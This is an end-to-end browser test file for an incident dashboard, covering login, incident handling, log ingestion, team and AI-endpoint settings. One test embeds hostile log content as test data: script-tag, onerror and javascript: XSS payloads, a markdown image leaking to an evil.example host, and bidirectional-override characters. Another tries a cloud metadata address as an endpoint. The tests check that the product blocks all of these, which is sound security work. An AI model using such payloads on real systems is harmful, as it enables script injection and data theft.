import { execFile } from 'node:child_process'
import { promisify } from 'node:util'
import { launchBrowser } from '@holdfast/testing/launch-browser'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { seePath, seeText } from './see.ts'
import { startProduct } from './start-product.ts'
import { patient } from './patient.ts'

let product: Awaited<ReturnType<typeof startProduct>>
let browser: Browser
let page: Page
const troubles: string[] = []

beforeAll(async () => {
  product = await startProduct()
  browser = await launchBrowser()
  page = await browser.newPage({ viewport: { width: 1440, height: 900 } })
  page.setDefaultTimeout(patient.timeout)
  page.on('pageerror', (error) => troubles.push(error.message))
  page.on('console', (message) => {
    const text = message.text()
    if (message.type() === 'error' && !text.startsWith('Failed to load resource')) troubles.push(text)
    else if (/content security policy/i.test(text)) troubles.push(text)
  })
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith(product.url)) troubles.push(request.url())
  })
})

afterAll(async () => {
  await browser?.close()
  await product?.stop()
})

const go = (path: string) => page.goto(product.url + path)
const firstRow = () => page.locator('[data-incident]').first()
const moreActions = async (name: string) => {
  await page.getByRole('button', { name: 'More actions' }).click()
  await page.getByRole('menuitem', { name }).click()
}

/** One person, one sitting: each step goes on where the last one ended. */
describe('the dashboard on the real product', { retry: 0 }, () => {
  it('lets the demo admin in and shows what the pipeline found', async () => {
    await go('/dashboard')
    await seePath(page, '/login')
    await page.getByPlaceholder('Your email address').fill(product.email)
    await page.getByPlaceholder('Your password').fill('Wrong-rope7')
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByRole('alert').waitFor()
    await page.getByPlaceholder('Your password').fill(product.password)
    await page.getByRole('button', { name: 'Continue' }).click()
    await firstRow().dblclick()
    await page.getByRole('tab', { name: 'Summary' }).waitFor()
    for (const name of ['Root Cause', 'Evidence & Logs', 'Impact Analysis', 'Technical Details', 'Timeline']) {
      await page.getByRole('tab', { name }).click()
      await page.getByRole('tabpanel', { name }).waitFor()
    }
  })

  it('shows a cited line among its neighbours', async () => {
    await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
    await page.getByRole('button', { name: 'Show surrounding lines' }).first().click()
    await page.getByRole('dialog').locator('[aria-current="location"]').waitFor()
    expect(await page.getByRole('dialog').getByRole('listitem').count()).toBeGreaterThan(10)
    await page.keyboard.press('Escape')
  })

  it('answers a question with lines that one can open', async () => {
    await page.getByRole('button', { name: 'Why High severity?' }).click()
    await page
      .getByRole('button', { name: /^Show line L/ })
      .first()
      .click()
    await page.waitForURL(/view=evidence&line=L/)
    await page.locator('li[aria-current="location"]').waitFor()
    expect(await page.locator('li[aria-current="location"] mark').count()).toBeGreaterThan(0)
  })

  it('saves status and assignee, takes a comment, and remembers both', async () => {
    await page.getByLabel('Status', { exact: true }).selectOption('investigating')
    await page.getByLabel('Assignee').selectOption({ index: 1 })
    await page.getByRole('button', { name: 'Save', exact: true }).click()
    await seeText(page, 'Saved')
    await page.getByLabel('Add a comment').fill('On it.')
    await page.getByRole('button', { name: 'Comment', exact: true }).click()
    // In the list: while it is being sent, the field that it was written into has the same text.
    const comment = page.getByRole('listitem').filter({ hasText: 'On it.' })
    await comment.waitFor()
    await page.reload()
    await comment.waitFor()
    expect(await page.getByLabel('Status', { exact: true }).inputValue()).toBe('investigating')
    await moreActions('History')
    await seeText(page.getByRole('dialog'), /open to investigating/)
    await page.keyboard.press('Escape')
  })

  it('deletes an incident and takes it back', async () => {
    const before = await page.locator('[data-incident]').count()
    await firstRow().click({ button: 'right' })
    await page.getByRole('alertdialog').getByRole('button', { name: 'Delete' }).click()
    await seeText(page, 'Incident deleted')
    await page.getByRole('button', { name: 'Undo' }).click()
    await seeText(page, 'Incident restored')
    await page
      .locator('[data-incident]')
      .nth(before - 1)
      .waitFor()
  })

  it('finds an incident in pasted lines, and links to it', async () => {
    await go('/dashboard/logs?view=forward')
    const startMs = Date.now() - 60_000
    const lines = Array.from(
      { length: 60 },
      (_, index) =>
        `${new Date(startMs + index * 900).toISOString()} ERROR [cart] could not connect to cache:6379: Connection refused`,
    )
    await page.getByLabel('Or paste log lines').fill(lines.join('\n'))
    await page.getByRole('button', { name: 'Process Logs' }).click()
    await seeText(page, '1 incidents detected from 60 log lines...')
    await page.getByRole('status').filter({ hasText: 'detected' }).getByRole('link').first().click()
    await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
    await seeText(page, /Connection refused/)
  })

  it('learns of each recurrence while somebody looks at the list, and shows that logs are processed', async () => {
    await go('/dashboard/incidents')
    await firstRow().waitFor()
    const forward = (startMs: number) => {
      const at = (index: number) => new Date(startMs + index * 10).toISOString()
      const lines = Array.from(
        { length: 6_000 },
        (_, index) => `${at(index)} ERROR [billing] ledger:5432 refused the connection`,
      )
      return page.evaluate(async (log_content) => {
        const { api_key } = JSON.parse(localStorage.getItem('customer') ?? '{}') as { api_key: string }
        const headers = { 'content-type': 'application/json' }
        const body = JSON.stringify({ log_content, api_key })
        return (await fetch('/api/v1/logs/forward', { method: 'POST', headers, body })).status
      }, lines.join('\n'))
    }
    for (const [times, hoursAgo] of [5, 3, 1].entries()) {
      const sent = forward(Date.now() - hoursAgo * 3_600_000)
      await seeText(page, 'Processing logs...')
      expect(await sent).toBe(200)
      if (times === 0) await page.getByRole('button', { name: /new incident.* · Show/ }).click()
      else
        await page
          .locator('[data-incident]', { hasText: `×${times + 1}` })
          .locator('[data-pulsing]')
          .first()
          .waitFor()
      await page.getByText('Processing logs...').waitFor({ state: 'detached' })
    }
  })

  it('shows a hostile log as what it is, with the policy in force', async () => {
    const response = await go('/dashboard/logs?view=forward')
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'")
    const script = '<script>window.pwned = true</script><img src=x onerror="window.pwned = true">'
    const poison = `${script} \u001b[31mred\u001b[0m user\u202egnp.exe ![x](https://evil.example/?leak=1) [go](javascript:window.pwned=true)`
    const startMs = Date.now() - 60_000
    const at = (index: number) => new Date(startMs + index * 900).toISOString()
    const lines = Array.from(
      { length: 60 },
      (_, index) => `${at(index)} ERROR [poison] could not connect to vault:8200: Connection refused ${poison}`,
    )
    lines.push(`${at(60)} ERROR [poison] could not connect to vault:8200: Connection refused ${'x'.repeat(1_000_000)}`)
    await page.getByLabel('Or paste log lines').fill(lines.join('\n'))
    await page.getByRole('button', { name: 'Process Logs' }).click()
    await page.getByRole('status').filter({ hasText: 'detected' }).getByRole('link').first().click()
    await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
    await seeText(page.getByRole('region', { name: 'Evidence lines' }), /<script>/)
    await page.getByRole('button', { name: 'Generate runbook' }).click()
    await page.getByRole('region', { name: 'Assistant' }).getByText('engine').waitFor()
    for (const tab of await page.getByRole('tab').all()) {
      await tab.click()
      expect(await page.locator('body').innerText()).not.toMatch(/[\u001b\u202e\u200b]/)
      expect(
        await page.locator('main img, main script, main a[href^="javascript"], main a[href*="evil"]').count(),
      ).toBe(0)
    }
    await page.getByRole('tab', { name: 'Evidence & Logs' }).click()
    await page.getByRole('button', { name: 'Show surrounding lines' }).first().click()
    await page.getByRole('dialog').locator('[aria-current="location"]').waitFor()
    await page.keyboard.press('Escape')
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(troubles).toEqual([])
  })

  it('streams a file of several megabytes', async () => {
    await go('/dashboard/logs?view=forward')
    const line = (index: number) =>
      `${new Date(Date.now() + index).toISOString()} INFO [web] request ${index} served in ${index % 50} ms`
    const buffer = Buffer.from(Array.from({ length: 90_000 }, (_, index) => line(index)).join('\n'))
    await page.getByLabel('Log file').setInputFiles({ name: 'big.log', mimeType: 'text/plain', buffer })
    await page.getByRole('button', { name: 'Process Logs' }).click()
    await seeText(page, /incidents detected from 90000 log lines/)
  })

  it('shows the first span and the first data point, which the commands of its empty screens send', async () => {
    const sendFrom = async (path: string, title: string) => {
      await go(path)
      await seeText(page, title)
      const command = await page.locator('code').filter({ hasText: 'curl' }).innerText()
      const { stdout } = await promisify(execFile)('sh', ['-c', command])
      expect(JSON.parse(stdout)).toEqual({})
      await page.getByText(title).waitFor({ state: 'detached' })
    }
    await sendFrom('/dashboard/traces', 'No spans yet')
    await page.getByRole('region', { name: 'Operations' }).getByRole('link', { name: 'hello GET /' }).click()
    await page.getByRole('heading', { name: 'hello GET /' }).waitFor()
    await sendFrom('/dashboard/metrics', 'No metrics yet')
    await page.getByRole('region', { name: 'hello.temperature' }).locator('canvas').waitFor()
  })

  it('runs a team', async () => {
    await go('/dashboard/settings/team')
    await page.getByRole('button', { name: 'Add member' }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByLabel('First name').fill('Grace')
    await dialog.getByLabel('Last name').fill('Hopper')
    await dialog.getByLabel('Email').fill('grace@holdfast.example')
    await dialog.getByLabel('Password', { exact: true }).fill('Sturdy-rope7')
    await dialog.getByRole('button', { name: 'Add member' }).click()
    await seeText(page, 'Team member added successfully')
    await page.getByLabel('Role of Grace Hopper').selectOption('admin')
    await seeText(page, 'Role updated successfully')
    await page.getByRole('button', { name: 'Deactivate' }).click()
    await seeText(page, 'User status updated')
    await page.getByRole('button', { name: 'Remove Grace Hopper' }).click()
    await page.getByRole('alertdialog').getByRole('button', { name: 'Remove' }).click()
    await seeText(page, 'Team member removed')
  })

  it('keeps what is chosen about models, and an endpoint’s key to itself', async () => {
    await go('/dashboard/settings/ai')
    await seeText(page, /None is set up on this server/)
    await seeText(page, 'No model was called in this period.')
    const save = async () => {
      await page.getByRole('button', { name: 'Save Changes' }).click()
      await seeText(page, 'Settings saved')
      await page.getByText('Settings saved').waitFor({ state: 'detached' })
    }
    await page.getByLabel('Tokens per day').fill('0')
    await page.getByLabel('Addresses in masked lines').selectOption('all')
    await save()
    await seeText(page, /budget is used up: until midnight UTC/)
    await page.getByRole('radio', { name: 'Your own endpoint' }).check()
    await page.getByLabel('Address', { exact: true }).fill('https://169.254.169.254/v1')
    await page.getByLabel('Model', { exact: true }).fill('house-model')
    await page.getByLabel('Key', { exact: true }).fill('sk-never-shown-again')
    await page.getByRole('button', { name: 'Save Changes' }).click()
    await seeText(page, /^Failed to save settings: ./)
    await page.getByLabel('Address', { exact: true }).fill('https://models.example.com/v1')
    await save()
    const reloaded = page.waitForResponse(/settings\/ai$/)
    await page.reload()
    expect(await (await reloaded).text()).not.toContain('sk-never')
    await page.getByPlaceholder('Stored. Leave empty to keep it.').waitFor()
    expect(await page.getByLabel('Address', { exact: true }).inputValue()).toBe('https://models.example.com/v1')
    expect(await page.getByLabel('Addresses in masked lines').inputValue()).toBe('all')
    await page.getByRole('button', { name: 'Remove this endpoint' }).click()
    await page.getByRole('alertdialog').getByRole('button', { name: 'Remove' }).click()
    await page.getByRole('button', { name: 'Remove this endpoint' }).waitFor({ state: 'detached' })
    await page.getByRole('radio', { name: 'Off' }).check()
    await save()
    await page.reload()
    await page.getByRole('radio', { name: 'Off', checked: true }).waitFor()
    await go('/dashboard/settings/audit')
    await seeText(page, 'organization.ai-settings-changed')
    expect(await page.locator('body').innerText()).not.toContain('sk-never')
  })

  it('saves a profile and rotates the key', async () => {
    await go('/dashboard/settings/profile')
    await page.getByLabel('First name').fill('Demi')
    await page.getByRole('button', { name: 'Save Changes' }).click()
    await seeText(page, 'Settings saved')
    await seeText(page.getByRole('banner'), 'Demi Admin')
    await go('/dashboard/settings/organization')
    const old = await page.locator('code').first().innerText()
    await page.getByRole('button', { name: 'Rotate key' }).click()
    await page.getByRole('alertdialog').getByRole('button', { name: 'Rotate' }).click()
    await seeText(page, 'API key rotated')
    await page.waitForFunction((key) => document.querySelector('code')?.textContent !== key, old)
  })

  it('shows the operator the numbers, and signs out without a complaint of the page', async () => {
    await page.getByRole('button', { name: 'Telemetry' }).click()
    await seeText(page.getByRole('dialog', { name: 'Admin Telemetry' }), 'Demo Company')
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page.getByRole('button', { name: /^User menu/ }).click()
    await page.getByRole('menuitem', { name: 'Logout' }).click()
    await seePath(page, '/login')
    expect(troubles).toEqual([])
  })
})
